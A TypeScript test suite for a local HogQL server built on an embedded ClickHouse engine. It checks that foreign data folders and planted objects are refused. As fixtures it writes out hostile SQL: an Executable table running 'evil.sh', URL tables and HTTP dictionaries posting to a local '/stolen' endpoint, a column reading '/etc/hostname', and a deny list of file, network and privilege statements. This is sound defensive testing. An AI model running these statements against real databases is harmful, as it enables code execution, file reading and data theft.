import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  cpSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import { ownDataFolder } from '../../../server/common/seal/dataFolder.ts';
import { ChdbEngine } from '../../../server/local/engine/chdb.ts';
import { importedData } from './importedData.ts';
import { engineOf, harmfulViews, otherViews, plantProgram, spoil } from './harmfulEngine.ts';
import { onOpenEngine } from './openEngine.ts';
import { testEngine } from './testEngine.ts';

const main = fileURLToPath(new URL('../../../server/local/main.ts', import.meta.url));

describe('data that others have made', () => {
  const home = mkdtempSync(join(tmpdir(), 'hogql-foreign-'));
  const made = join(home, 'made');
  const exports = join(home, 'exports');
  /** The file that the program writes if it runs. */
  const marker = join(home, 'marker');
  /** The target of a view's address. */
  let server: Server;
  let url: string;
  const asked: string[] = [];

  before(async () => {
    await importedData(exports, made, home);
    await ownDataFolder(made, home);
    server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.end('1\n');
    });
    await once(server.listen(0, '127.0.0.1'), 'listening');
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/stolen`;
  });
  after(() => {
    server.close();
    rmSync(home, { recursive: true, force: true, maxRetries: 3 });
  });

  /** The outcome of a start: the service, or the reason why there is none. */
  async function start(data: string): Promise<{ rows?: unknown; lines: readonly string[] }> {
    const { modules } = await testEngine();
    const args = ['--exports', exports, '--data', data, '--storage', home];
    const program = spawn(process.execPath, [main, ...args, '--engine', modules], {
      stdio: ['ignore', 'pipe', 'pipe'],
      cwd: data,
    });
    const lines: string[] = [];
    createInterface(program.stderr).on('line', (line) => lines.push(line));
    const closed = once(program, 'close');
    const ready = once(createInterface(program.stdout), 'line') as Promise<[string]>;
    const line = await Promise.race([ready.then(([text]) => text), closed.then(() => undefined)]);
    if (line === undefined) return { lines };
    try {
      return { rows: await countOf(JSON.parse(line) as Parameters<typeof countOf>[0]), lines };
    } finally {
      program.kill('SIGTERM');
      await closed;
    }
  }

  async function countOf(service: { url: string; projectId: string; apiKey: string }) {
    const answer = await fetch(`${service.url}/api/projects/${service.projectId}/query/`, {
      method: 'POST',
      headers: { authorization: `Bearer ${service.apiKey}` },
      body: JSON.stringify({ query: { kind: 'HogQLQuery', query: 'select count() from events' } }),
    });
    return ((await answer.json()) as { results?: unknown }).results;
  }

  it('is not opened in a folder without a seal of this machine, and nothing is written there', async () => {
    const elsewhere = mkdtempSync(join(tmpdir(), 'hogql-repository-'));
    const data = join(elsewhere, 'data');
    try {
      cpSync(made, data, { recursive: true, verbatimSymlinks: true });
      assert.ok(existsSync(join(data, 'seal')), 'the seal of another folder comes along');
      await spoil(data, marker, harmfulViews(url));
      const before = readdirSync(data);
      const { rows, lines } = await start(data);
      assert.equal(rows, undefined);
      assert.match(lines.join('\n'), /data that HogQL did not create, so it is not opened/);
      assert.deepEqual(readdirSync(data), before);
    } finally {
      rmSync(elsewhere, { recursive: true, force: true });
    }
    assert.equal(existsSync(marker), false);
  });

  const planted: [what: string, plant: (data: string) => Promise<void>, refused: RegExp][] = [
    [
      'views that run programs and reach others',
      (data) => spoil(data, marker, harmfulViews(url)),
      /user_scripts/,
    ],
    [
      'tables that run programs',
      (data) =>
        spoil(data, marker, [
          "CREATE TABLE bad (x String) ENGINE = Executable('evil.sh', 'TSV')",
        ]).then(() => hideScript(data)),
      /bad\.sql/,
    ],
    [
      'tables in other places',
      (data) =>
        onOpenEngine(engineOf(data), [`CREATE TABLE bad (x String) ENGINE = URL('${url}', TSV)`]),
      /bad\.sql/,
    ],
    [
      'columns that are computed',
      (data) =>
        onOpenEngine(engineOf(data), [
          "CREATE TABLE bad (x String, y String ALIAS file('/etc/hostname')) ENGINE = MergeTree ORDER BY x",
        ]),
      /bad\.sql/,
    ],
    [
      'functions of their own',
      (data) => onOpenEngine(engineOf(data), ['CREATE FUNCTION bad AS (x) -> x + 1']),
      /user_defined/,
    ],
    [
      'named collections',
      (data) => onOpenEngine(engineOf(data), ["CREATE NAMED COLLECTION bad AS url = 'http://h'"]),
      /named_collections/,
    ],
    [
      'dictionaries',
      (data) =>
        onOpenEngine(engineOf(data), [
          `CREATE DICTIONARY bad (x UInt64, y String) PRIMARY KEY x SOURCE(HTTP(url '${url}' format 'TSV')) LAYOUT(FLAT()) LIFETIME(1)`,
        ]),
      /bad\.sql/,
    ],
    [
      'changes that are still to be made',
      (data) => {
        const file = mutationOf(data);
        const text = readFileSync(file, 'utf8');
        const select = `SELECT x FROM url(\\'${url}\\', \\'TSV\\', \\'x UInt32\\')`;
        writeFileSync(file, text.replace(/raw_chunk >= \d+/, `raw_chunk IN (${select})`));
        return Promise.resolve();
      },
      /mutation_\d+\.txt/,
    ],
  ];
  for (const [what, plant, refused] of planted) {
    it(`is not opened where ${what} are among our own`, async () => {
      const data = join(home, 'planted');
      cpSync(made, data, { recursive: true, verbatimSymlinks: true });
      try {
        await plant(data);
        asked.length = 0;
        const { rows, lines } = await start(data);
        assert.deepEqual(rows, [[300]], 'the files are read');
        const said = lines.find((line) => line.includes('What was imported cannot be read now'));
        assert.match(said ?? '', /is not what HogQL keeps there/);
        assert.match(said ?? '', refused);
        assert.deepEqual(asked, []);
        assert.equal(existsSync(marker), false);
      } finally {
        rmSync(data, { recursive: true, force: true });
      }
    });
  }

  it('is opened without its views, which are made anew', async () => {
    const data = join(home, 'planted');
    cpSync(made, data, { recursive: true, verbatimSymlinks: true });
    await onOpenEngine(engineOf(data), otherViews(url));
    const { rows, lines } = await start(data);
    assert.deepEqual(rows, [[300]]);
    assert.deepEqual(lines, []);
    const kept = readdirSync(join(engineOf(data), 'metadata', 'default'));
    assert.ok(kept.includes('events.sql'));
    assert.deepEqual(
      kept.filter((name) => /secrets|sent/.test(name)),
      [],
    );
    rmSync(data, { recursive: true, force: true });
  });

  it('is opened by no configuration that is beside it', async () => {
    const data = join(home, 'planted');
    cpSync(made, data, { recursive: true, verbatimSymlinks: true });
    const config = '<clickhouse><users_config>/nowhere.xml</users_config></clickhouse>';
    writeFileSync(join(data, 'config.xml'), config);
    assert.deepEqual(await start(data), { rows: [[300]], lines: [] });
    rmSync(data, { recursive: true, force: true });
  });

  describe('in an engine of ours', () => {
    const path = join(home, 'engine');
    let engine: ChdbEngine;

    before(async () => {
      engine = new ChdbEngine({
        ...(await testEngine()),
        path,
        slots: 1,
        maxMemoryBytes: 1e9,
        progressEveryMs: 100,
        killGraceMs: 1e3,
      });
      await engine.load(['CREATE TABLE own (x String) ENGINE = MergeTree ORDER BY x']);
      plantProgram(path, marker);
    });
    after(() => engine.close());

    const refused: string[] = [
      "SELECT * FROM executable('evil.sh', 'TSV', 'x String')",
      "SELECT * FROM executable('../../user_scripts/evil.sh', 'TSV', 'x String')",
      "SELECT * FROM url('URL', 'TSV', 'x String')",
      "SELECT * FROM s3('URL', 'TSV', 'x String')",
      "SELECT * FROM remote('127.0.0.1:9000', system.one)",
      "SELECT * FROM mysql('127.0.0.1:1', 'd', 't', 'u', 'p')",
      "SELECT * FROM postgresql('127.0.0.1:1', 'd', 't', 'u', 'p')",
      "SELECT * FROM mongodb('127.0.0.1:1', 'd', 't', 'u', 'p', 'x String')",
      "SELECT * FROM redis('127.0.0.1:1', 'x', 'x String')",
      "SELECT * FROM jdbc('URL', 's', 't')",
      "SELECT * FROM odbc('dsn', 's', 't')",
      "SELECT * FROM sqlite('/tmp/x.db', 't')",
      'SELECT * FROM system.users',
      "INSERT INTO FUNCTION file('/tmp/hogql-written', 'TSV') SELECT 1",
      "INSERT INTO FUNCTION url('URL', 'TSV', 'x String') SELECT 'secret'",
      "CREATE TABLE t (x String) ENGINE = URL('URL', 'TSV')",
      "CREATE TABLE t (x String) ENGINE = File('TSV', '/tmp/hogql-written')",
      "CREATE DICTIONARY d (x UInt64) PRIMARY KEY x SOURCE(HTTP(url 'URL' format 'TSV')) LAYOUT(FLAT()) LIFETIME(1)",
      'CREATE FUNCTION f AS (x) -> x + 1',
      "CREATE NAMED COLLECTION c AS url = 'URL'",
      "CREATE DATABASE d ENGINE = SQLite('/tmp/x.db')",
      "BACKUP TABLE own TO File('/tmp/hogql-written')",
      "CREATE VIEW v SQL SECURITY NONE AS SELECT * FROM url('URL', 'TSV', 'x String')",
      'SYSTEM RELOAD CONFIG',
      'GRANT ALL ON *.* TO default',
    ];
    for (const sql of refused) {
      it(`may not ${sql}`, async () => {
        rmSync(marker, { force: true });
        asked.length = 0;
        await assert.rejects(
          engine.load([sql.replace('URL(', '\0').replace('URL', url).replace('\0', 'URL(')]),
        );
        assert.deepEqual(asked, []);
        assert.equal(existsSync(marker), false);
      });
    }
  });
});

/** The program is where the engine looked for it before, and nothing else tells of it. */
function hideScript(data: string): void {
  rmSync(join(engineOf(data), 'user_scripts'), { recursive: true });
}

function mutationOf(data: string): string {
  const found = readdirSync(engineOf(data), { recursive: true, encoding: 'utf8' });
  const file = found.find((name) => /mutation_\d+\.txt$/.test(name));
  assert.ok(file !== undefined);
  return join(engineOf(data), file);
}
